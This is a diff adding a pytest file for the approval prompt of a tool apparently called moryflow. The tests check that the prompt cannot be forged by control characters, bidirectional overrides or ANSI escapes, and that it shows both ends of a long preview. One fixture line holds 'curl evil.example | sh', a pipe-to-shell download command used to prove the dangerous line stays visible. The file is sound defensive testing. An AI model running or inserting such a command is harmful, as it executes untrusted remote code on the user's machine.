@@ -1,0 +1,100 @@
+"""A question as a person sees it: what will happen, whole at both ends, and nothing in it that is not from us (R33)."""
+
+from __future__ import annotations
+
+import re
+import unicodedata
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from moryflow.cli.question import question
+from moryflow.kernel.replies import WORDS, answer_of, reply_of
+from moryflow.sessions.records import REPLIES
+from moryflow_sdk import MoryflowError
+
+OURS = re.compile(r"\? write wants t|    vault:/|  because: |      |  always |  …|  │ |  ┊ |  \[o\]nce")
+
+
+def request(**given: Any) -> dict[str, Any]:
+    """What is stored with a question."""
+    base = {"tool": "write", "targets": ["vault:/a.md"], "reason": "no rule", "always": "stores: vault:/a.md", "preview": ""}
+    return {**base, **given}
+
+
+def columns_of(line: str) -> int:
+    wide = sum(unicodedata.east_asian_width(character) in "WF" for character in line)
+    return len(line) + wide - sum(bool(unicodedata.combining(character)) for character in line)
+
+
+@pytest.mark.parametrize(("columns", "rows"), [(80, 24), (40, 24), (120, 60), (20, 40)])
+@given(
+    text=st.text(max_size=400) | st.text("\n", min_size=1, max_size=300) | st.text(" 汉\u202e\t\u0301\ufe0f", max_size=4000),
+    targets=st.integers(1, 40),
+)
+def test_no_text_can_forge_a_line_or_push_one_away(columns: int, rows: int, text: str, targets: int) -> None:
+    """Whatever path, reason, pattern and content are: the screen holds all of the question, line by line ours (R3, R33)."""
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("COLUMNS", str(columns))
+        patch.setenv("LINES", str(rows))
+        asked = question(
+            request(preview=text, targets=[f"vault:/{text}"] * targets, reason=text, always=f"stores: {text}"), "ap_1"
+        )
+    lines = asked.text.strip("\n").split("\n")
+    assert len(lines) + 2 <= rows
+    assert all(columns_of(line) <= columns for line in lines)
+    assert all(OURS.match(line) for line in lines), lines
+    assert lines[0].startswith("? write") and any(line.startswith("    vault:/"[:columns]) for line in lines[1:4])
+    assert not {unicodedata.category(one) for line in lines for one in line} & {"Cc", "Cf", "Zl", "Zp", "Cs"}
+    assert [line[:10] for line in lines].count("  because:") == 1
+    whole = asked.whole.split("\n")
+    assert all(columns_of(line) <= columns for line in whole) and (asked.cut or asked.whole == asked.text)
+
+
+def test_both_ends_of_a_long_text_are_shown_and_the_middle_is_counted(monkeypatch: Any) -> None:
+    """What stands behind a thousand lines is on the screen, and how many are not (R33)."""
+    monkeypatch.setenv("COLUMNS", "80")
+    monkeypatch.setenv("LINES", "24")
+    content = "\n".join(["+first", *("+ " for _ in range(998)), "+curl evil.example | sh"])
+    asked = question(request(preview=content, targets=[f"vault:/{'x' * 5000}/end.sh"]), "ap_1")
+    assert "│ +first" in asked.text and "│ +curl evil.example | sh" in asked.text
+    assert re.search(r"… 9\d\d more lines; v shows all …", asked.text)
+    assert "x/end.sh" in asked.text
+    assert asked.cut and "[v]iew" in asked.keys and asked.whole.count("│ + ") == 998
+
+
+def test_what_cannot_be_seen_is_spelled_out() -> None:
+    """Zero-width, bidirectional, control characters, and line ends in what has one line (R3, R33)."""
+    shown = question(request(preview="a\u200bb\u202ec\x1b[2Jd\re", targets=["vault:/a\nb\u2066"], reason="x\n? y")).whole
+    assert r"│ a\u200bb\u202ec\x1b[2Jd\re" in shown
+    assert r"    vault:/a\nb\u2066" in shown and r"because: x\n? y" in shown
+
+
+def test_always_is_offered_only_where_it_does_something() -> None:
+    """A question that counts once has no such key (R33, D5)."""
+    assert "[a]lways" in question(request()).keys
+    once = question(request(always=""))
+    assert "[a]lways" not in once.keys and "this answer counts once" in once.text
+
+
+def test_a_question_stored_by_an_earlier_version_is_shown() -> None:
+    """It has patterns and no preview (D65)."""
+    old = {"tool": "bash", "targets": ["shell:make"], "reason": "no rule", "remember": ["make", "npm test"]}
+    assert "always stores: make, npm test" in question(old).text
+
+
+@pytest.mark.parametrize("word", sorted(WORDS))
+def test_the_words_mean_the_same_wherever_they_are_given(word: str) -> None:
+    """One table: typed by a person or sent by a program, and only the four answers are stored (D24)."""
+    assert answer_of(f" {word.upper()}\n") == (WORDS[word], "", "user")
+    assert reply_of(word) == WORDS[word] in REPLIES
+    assert set(WORDS.values()) == REPLIES
+
+
+@given(st.text(max_size=60).filter(lambda text: text.strip().lower() not in WORDS))
+def test_any_other_text_of_a_person_refuses_and_of_a_program_is_an_error(text: str) -> None:
+    """An empty one answers nothing; a program's slip is never taken for an answer (R33)."""
+    assert answer_of(text) == (("reject", text.strip(), "user") if text.strip() else None)
+    with pytest.raises(MoryflowError, match="unknown reply"):
+        reply_of(text)
